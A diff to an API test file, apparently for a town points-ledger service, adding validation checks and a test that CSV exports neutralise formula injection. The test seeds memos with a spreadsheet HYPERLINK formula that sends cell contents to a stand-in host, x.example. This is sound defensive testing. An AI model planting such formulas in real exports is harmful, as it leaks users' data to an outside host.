@@ -1,3 +1,4 @@
+import { parse as parseCsv } from 'csv-parse/sync';
 import request from 'supertest';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { LedgerService } from '@app/ledger/ledger.service';
@@ -62,7 +63,13 @@ describe('values PostgreSQL would refuse are 400s, with the field named', () => 
       expect([rec.body.code, fieldsOf(rec)]).toEqual(['VALIDATION.FAILED', ['from']]);
     }
     const settings = await request(stack.http).patch('/api/v1/towns/current/settings').set('authorization', t.town_admin).send({ holidays: ['2026-02-29'] }).expect(400);
-    expect(settings.body.code).toBe('VALIDATION.FAILED');
+    expect(settings.body.code).toBe('ORG.INVALID_SETTINGS');
+    const status = await request(stack.http)
+      .post(`/api/v1/residents/${f.residentsA[0]}/status`)
+      .set('authorization', t.town_admin)
+      .send({ to: 'moved', effectiveOn: '2026-02-29', reason: '迁出' })
+      .expect(400);
+    expect(status.body.code).toBe('VALIDATION.FAILED');
   });
 
   it('time filters IsISO8601 took and PostgreSQL does not: 2026, 2026-03, 2026-W10, an hour alone', async () => {
@@ -85,6 +92,26 @@ describe('values PostgreSQL would refuse are 400s, with the field named', () => 
       const res = await request(stack.http).get('/api/v1/audit/postings').query({ cursor }).set('authorization', t.auditor).expect(400);
       expect(fieldsOf(res)).toEqual(['cursor']);
     }
+  });
+
+  it('CSV exports show text that starts like a formula as text, and leave negative numbers alone', async () => {
+    const r = f.residentsA[2];
+    const formula = '=HYPERLINK("http://x.example/?"&A1,"门前三包")';
+    await stack.api.get(LedgerService).postBatch([
+      { accountId: r, kind: 'opening_balance', points: 10, sourceRef: `opening:${r}`, counterparty: `town:${f.townId}`, period: '2026-01', memo: formula },
+      { accountId: r, kind: 'opening_balance', points: -3, sourceRef: `opening2:${r}`, counterparty: `town:${f.townId}`, period: '2026-01', memo: '@SUM(1)' },
+    ]);
+    const csvOf = async (path: string, query: Record<string, string> = {}) =>
+      parseCsv((await request(stack.http).get(path).query(query).set('authorization', t.auditor).buffer(true).expect(200)).text.replace(/^\uFEFF/, '')) as string[][];
+    const postings = await csvOf('/api/v1/audit/postings.csv', { residentId: r });
+    const cells = postings.slice(1).flat();
+    expect(cells).toContain(`'${formula}`);
+    expect(cells).toContain(`'@SUM(1)`);
+    expect(cells).not.toContain(formula);
+    expect(cells).toContain('-3');
+    const statement = await csvOf(`/api/v1/residents/${r}/statement.csv`);
+    expect(statement.slice(1).flat()).toContain(`'${formula}`);
+    expect(statement.slice(1).flat()).toContain('-3');
   });
 
   it('an upper-case id of a real row is that row, not "not found"', async () => {
